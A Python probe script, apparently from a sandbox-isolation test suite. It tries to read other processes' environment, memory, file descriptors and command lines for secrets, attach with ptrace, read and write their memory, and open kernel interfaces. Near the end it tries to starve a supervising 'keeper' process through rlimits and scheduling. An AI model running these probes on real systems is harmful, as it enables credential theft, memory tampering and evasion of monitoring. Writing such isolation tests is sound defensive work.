"""Looks into other processes by all that /proc and the system calls offer."""

# outside: ^(seen|environ|maps|mem|fds|cmdline|ptrace|vm_readv|getfd|rlimits|priority|affinity|policy)
import ctypes
import os
import signal
import struct

from attack import GIVEN, attempt, call, in_child, read, secrets, syscall

mine = {os.getpid()}
others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in mine]
target = GIVEN.get("victim") or 1


def seen():
    # The keeper, its kernel, and nobody else.
    return [pid for pid in others if pid != 1 and pid != os.getppid()]


attempt("seen", seen)
for pid in sorted({1, target, GIVEN["host_pid"]}):
    for name in (
        "environ",
        "maps",
        "mem",
        "auxv",
        "stack",
        "syscall",
        "io",
        "smaps",
        "pagemap",
        "personality",
    ):
        attempt(f"{name} of {pid}", read, f"/proc/{pid}/{name}")
    for name in ("fd", "map_files", "task", "ns", "fdinfo"):
        attempt(
            f"{name}s of {pid}",
            lambda: (
                [os.readlink(f"/proc/{pid}/{name}/{n}") for n in os.listdir(f"/proc/{pid}/{name}")]
                if name not in {"task", "fdinfo"}
                else os.listdir(f"/proc/{pid}/{name}")
                if name == "fdinfo"
                else read(f"/proc/{pid}/task/{pid}/environ")
            ),
        )
    for name in ("root", "cwd", "exe"):
        attempt(f"{name} of {pid}", os.readlink, f"/proc/{pid}/{name}")
    for name in (
        "oom_score_adj",
        "comm",
        "coredump_filter",
        "clear_refs",
        "mem",
        "timerslack_ns",
        "autogroup",
    ):
        attempt(f"write {name} of {pid}", os.open, f"/proc/{pid}/{name}", os.O_WRONLY)
    attempt(f"cmdline of {pid}", lambda: secrets(open(f"/proc/{pid}/cmdline", "rb").read()))


def traced(request):
    def go():
        syscall((101, 117), request, target, 0, 0)
        return "attached"

    return in_child(go)


attempt("ptrace attach", traced, 16)
attempt("ptrace seize", traced, 0x4206)


def vm(number):
    buffer = ctypes.create_string_buffer(64)
    address = int(GIVEN.get("address") or id(os))

    class Span(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    local, remote = Span(ctypes.addressof(buffer), 16), Span(address, 16)
    return syscall(number, target, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)


attempt("vm_readv", vm, (310, 270))
attempt("vm_writev", vm, (311, 271)) if target == 1 else None


def getfd():
    return syscall(438, os.pidfd_open(target), 1, 0)


attempt("getfd", getfd)
attempt("kcmp", lambda: str(syscall((312, 272), os.getpid(), target, 2, 0, 0)))


def limits():
    import resource

    return f"limits {resource.prlimit(target, resource.RLIMIT_NOFILE, (64, 64))}"


# The keeper watches over memory, time and disk; whoever can slow it down or starve it is unwatched.
attempt("rlimits", limits)
attempt("priority", lambda: call("setpriority", 0, target, 19) == 0)
attempt("affinity", lambda: os.sched_setaffinity(target, {min(os.sched_getaffinity(0))}) or "pinned")
attempt("policy", lambda: os.sched_setscheduler(target, os.SCHED_IDLE, os.sched_param(0)) or "idle")
attempt("io priority", lambda: syscall((251, 30), 1, target, 3 << 13) == 0)
for path in (
    "/proc/kcore",
    "/proc/kmsg",
    "/dev/kmsg",
    "/dev/mem",
    "/proc/timer_list",
    "/proc/sysrq-trigger",
    "/sys/kernel/debug",
    "/sys/fs/cgroup",
    "/sys/kernel/security",
):
    attempt(
        f"kernel {path}",
        lambda: (
            os.listdir(path)
            if path.startswith("/sys")
            else os.open(path, os.O_RDONLY) + 1
            if path != "/proc/sysrq-trigger"
            else os.open(path, os.O_WRONLY) + 1
        ),
    )
attempt("kernel keys", lambda: open("/proc/keys").read())
